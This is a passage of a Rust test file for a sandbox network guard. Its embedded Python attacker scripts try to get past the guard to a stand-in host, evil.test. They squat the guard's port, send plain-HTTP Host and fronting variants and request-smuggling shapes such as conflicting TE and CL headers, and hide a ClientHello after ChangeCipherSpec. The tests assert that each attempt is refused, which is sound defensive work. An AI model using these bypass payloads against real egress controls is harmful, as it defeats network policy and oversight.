        r#"
import errno, socket, sys, time
# Until the agent is gone (the port in use), then bind and listen there.
deadline = time.time() + 30
while True:
    try:
        s = socket.socket(); s.bind(("127.0.0.1", {port})); s.listen(64)
        print("bound", flush=True)
        break
    except OSError as e:
        if e.errno != errno.EADDRINUSE or time.time() > deadline:
            print("refused", errno.errorcode.get(e.errno, e), flush=True)
            break
        time.sleep(0.05)
time.sleep(30)
"#,
        port = 15300 + id
    );
    let mut squatter = w.env.sandbox_spawn("web", &[python(), "-c", &squat]);
    w.env.kill_agent();
    let mut line = String::new();
    std::io::BufReader::new(squatter.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("squatter output");
    assert!(
        line.starts_with("bound") || line.starts_with("refused"),
        "the squatter tried the guard's port: {line}"
    );
    let restarted = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        w.env.start_agent();
    }));
    let _ = squatter.kill();
    let _ = squatter.wait();
    assert!(
        restarted.is_ok(),
        "the agent did not come back while a sandbox held its guard port"
    );
    let out = w.attack(&script(&format!(
        r#"
{HELLO_PY}
s = socket.create_connection((SHARED, 443), timeout=5); s.sendall(hello("allowed.test"))
print("control", outcome(s))
"#
    )));
    assert!(
        out.contains("control answered"),
        "through the guard again: {out}"
    );
}

/// The same squat when the guard is being turned on (an upgrade to a guarding agent, or
/// `guard = true` added): the new agent loads its programs, flags the policy as guarded,
/// fails to bind the guard and exits before it points the kernel at the guard. The
/// kernel then sends guarded connects direct (`guard::route`: no guard address, `Direct`),
/// so the squatting sandbox, its address for allowed.test validated before, reaches
/// evil.test on it while the agent stays down.
#[test]
fn a_guard_that_cannot_start_does_not_leave_connects_going_direct() {
    use std::io::BufRead as _;
    let mut w = World::with_guard("gaupgrade", false);
    let id = w.env.policy_id("web");
    // A folder the sandbox sees (read-only): the test's signal to go.
    let signal = PathBuf::from(format!(
        "/var/tmp/hb-guard-go-{}",
        hb_tests::random_suffix()
    ));
    fs::create_dir_all(&signal).expect("signal folder");
    let go = signal.join("go");
    let attacker = format!(
        r#"
{PRELUDE}
{HELLO_PY}
try:
    sq = socket.socket(); sq.bind(("127.0.0.1", {port})); sq.listen(64)
    print("bound", flush=True)
except OSError as e:
    print("bind", e, flush=True)
# The test says when the new agent has come and gone; then evil.test until it answers.
import os
deadline = time.time() + 30
while time.time() < deadline and not os.path.exists({go:?}):
    time.sleep(0.05)
result = "never answered"
while time.time() < deadline:
    try:
        s = socket.create_connection((SHARED, 443), timeout=2)
        s.sendall(hello("evil.test"))
        if outcome(s) == "answered":
            result = "answered"
            break
    except OSError:
        pass
    time.sleep(0.2)
print(result, flush=True)
"#,
        port = 15300 + id,
        go = go.display().to_string(),
    );
    let mut child = nameserver_sandbox(&w.env, "web", 1, &[python(), "-c", &attacker])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("attacker sandbox");
    let mut lines = std::io::BufReader::new(child.stdout.take().expect("stdout")).lines();
    let first = lines.next().and_then(Result::ok).unwrap_or_default();
    assert!(
        first.starts_with("bound") || first.starts_with("bind"),
        "the attacker tried the future guard port: {first}"
    );
    // The upgrade: the same policy, now guarded.
    w.env.kill_agent();
    let text = fs::read_to_string(&w.env.config_path).expect("config");
    fs::write(
        &w.env.config_path,
        text.replace("guard = false", "guard = true"),
    )
    .expect("config");
    let _ = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        w.env.start_agent();
    }));
    fs::write(&go, "").expect("signal");
    let last = lines.next().and_then(Result::ok).unwrap_or_default();
    let _ = child.kill();
    let _ = child.wait();
    let _ = fs::remove_dir_all(&signal);
    let records = w.vhosts.records();
    assert_eq!(
        reached_evil(&records),
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached after the guarding agent failed to start ({last})"
    );
}

/// Plain-HTTP spellings of evil.test or of a write, each on its own connection to port
/// 80 (the server that reads every body): the Host in other cases, with a dot, a port,
/// a tab; an absolute-form target naming evil.test, with user info, without Host; two
/// Host headers; a folded Host; no Host at all; a lower-case `post`; CONNECT; an h2c
/// upgrade; a websocket upgrade; the HTTP/2 preface. None reaches evil.test's host, no
/// write reaches allowed.test.
#[test]
fn plain_http_fronting_and_write_spellings_are_refused() {
    let w = World::new("gahttp");
    let out = w.attack(&script(
        r#"
A = b"allowed.test"
cases = {
    "control": b"GET /control HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "host": b"GET / HTTP/1.1\r\nHost: EVIL.TEST.\r\n\r\n",
    "host_port": b"GET / HTTP/1.1\r\nHost: evil.test:80\r\n\r\n",
    "host_tab": b"GET / HTTP/1.1\r\nHost:\tevil.test\t\r\n\r\n",
    "absolute": b"GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "absolute_only": b"GET http://evil.test/ HTTP/1.1\r\n\r\n",
    "userinfo": b"GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "two_hosts": b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
    "folded": b"GET / HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n\r\n",
    "no_host": b"GET / HTTP/1.0\r\n\r\n",
    "lower_post": b"post /w HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n",
    "put": b"PUT /w HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\n\r\nx",
    "connect": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
    "h2c": b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
    "websocket": b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "te_cl": b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "after_get": b"GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\nDELETE /second HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
}
for label, data in cases.items():
    try:
        got = raw(80, data)
    except OSError as e:
        got = str(e).encode()
    print(label, got.split(b"\r\n")[0].decode("latin-1") or "closed")
"#,
    ));
    assert!(out.contains("control HTTP/1.1 200"), "{out}");
    let records = w.vhosts.settle(|r| r["path"] == "/first");
    assert_eq!(
        reached_evil(&records),
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
    assert_eq!(
        writes(&records),
        Vec::<&Value>::new(),
        "a write reached allowed.test: {out}"
    );
    assert!(
        records.iter().all(|r| r["vhost"] == "allowed.test"),
        "only allowed.test was served: {records:?}\n{out}"
    );
}

/// A control request to allowed.test over TLS on `port`, then `call` (a function of
/// [`HRR_CLIENT`]: first name allowed.test, second evil.test) requesting `path`: the
/// control must arrive, and nothing at evil.test's virtual host.
fn tls_attack_reaches_only_allowed_test(w: &World, port: u16, call: &str, path: &str) {
    let client = HRR_CLIENT.replace("SECOND_NAME", "b\"evil.test\"");
    let out = w.attack(&script(&format!(
        r#"
{client}
ctl = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctl.check_hostname = False; ctl.verify_mode = ssl.CERT_NONE
with ctl.wrap_socket(socket.create_connection((SHARED, {port}), timeout=5), server_hostname="allowed.test") as t:
    t.sendall(b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
    print("control", recv_all(t).split(b"\r\n")[0].decode())
print("attack", {call}({port}, b"allowed.test", b"evil.test"))
"#
    )));
    assert!(
        out.contains("control HTTP/1.1 200"),
        "TLS to allowed.test passes the guard: {out}"
    );
    let records = w.vhosts.settle(|r| r["path"] == path);
    assert!(
        records
            .iter()
            .any(|r| r["path"] == "/control" && r["vhost"] == "allowed.test"),
        "the control request arrived: {records:?}"
    );
    assert_eq!(
        reached_evil(&records),
        Vec::<&Value>::new(),
        "evil.test's virtual host was reached: {out}"
    );
}

/// A raw TCP server on the shared address, port 8445: keeps what each connection
/// carried (until its end, or 3 s of silence).
struct Sink {
    got: std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>,
}

impl Sink {
    fn start() -> Self {
        use std::io::Read as _;
        let listener = std::net::TcpListener::bind((SHARED, 8445)).expect("sink bind");
        let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let keep = got.clone();
        thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { continue };
                let keep = keep.clone();
                thread::spawn(move || {
                    let _ = conn.set_read_timeout(Some(Duration::from_secs(3)));
                    let mut data = Vec::new();
                    let _ = conn.read_to_end(&mut data);
                    keep.lock().expect("sink").push(data);
                });
            }
        });
        Self { got }
    }

    /// What the connections carried, once `count` of them ended (10 s at most).
    fn carried(&self, count: usize) -> Vec<Vec<u8>> {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let got = self.got.lock().expect("sink").clone();
            if got.len() >= count || Instant::now() > deadline {
                return got;
            }
            thread::sleep(Duration::from_millis(50));
        }
    }
}

/// After `change_cipher_spec`, a handshake record holding a whole ClientHello naming
/// evil.test plus one byte more: the guard took it for TLS 1.2's encrypted Finished
/// and passed it unjudged. The same shapes a real client sends still pass: TLS 1.3's
/// second ClientHello after `change_cipher_spec`, and an encrypted Finished whose first
/// byte happens to be 1.
#[test]
fn a_client_hello_after_change_cipher_spec_never_passes_with_bytes_after_it() {
    let w = World::new("gaccs");
    let sink = Sink::start();
    let out = w.attack(&script(&format!(
        r#"
{HELLO_PY}
def rec(kind, body): return bytes([kind, 3, 3]) + struct.pack(">H", len(body)) + body
def send(label, data):
    s = socket.create_connection((SHARED, 8445), timeout=5)
    try:
        s.sendall(data); time.sleep(0.3); s.shutdown(socket.SHUT_WR)
        print(label, "sent", flush=True)
    except OSError as e:  # refused: the guard reset the connection
        print(label, type(e).__name__, flush=True)
    s.close()
good = hello("allowed.test")
ccs = rec(20, b"\x01")
send("compat", good + ccs + rec(22, hello("allowed.test")[5:]))
send("finished", good + ccs + rec(22, b"\x01" + bytes(range(7, 46))))
send("attack", good + ccs + rec(22, hello("evil.test")[5:] + b"\x00"))
send("cut", good + rec(22, hello("evil.test")[5:30]) + ccs + rec(22, hello("evil.test")[30:]))
"#
    )));
    let carried = sink.carried(4);
    let evil = carried
        .iter()
        .filter(|c| c.windows(9).any(|x| x == b"evil.test"))
        .count();
    assert_eq!(
        evil, 0,
        "a ClientHello naming evil.test reached the server: {out}"
    );
    let whole = carried
        .iter()
        .filter(|c| c.len() > 300 && c.windows(12).filter(|x| x == b"allowed.test").count() == 2)
        .count();
    assert_eq!(
        whole, 1,
        "TLS 1.3's second ClientHello after CCS passes: {out}"
    );
    assert!(
        carried
            .iter()
            .any(|c| c.ends_with(&[1, 7, 8, 9]) || c.windows(4).any(|x| x == [1, 7, 8, 9])),
        "an encrypted Finished starting with 1 passes: {out}"
    );
    let refused = w
        .env
        .wait_event("sni_mismatch for evil.test after CCS", |e| {
            e["hook"] == "guard" && e["reason"] == "sni_mismatch" && e["name"] == "evil.test"
        });
    assert_eq!(refused["policy"], "web", "{refused}");
}
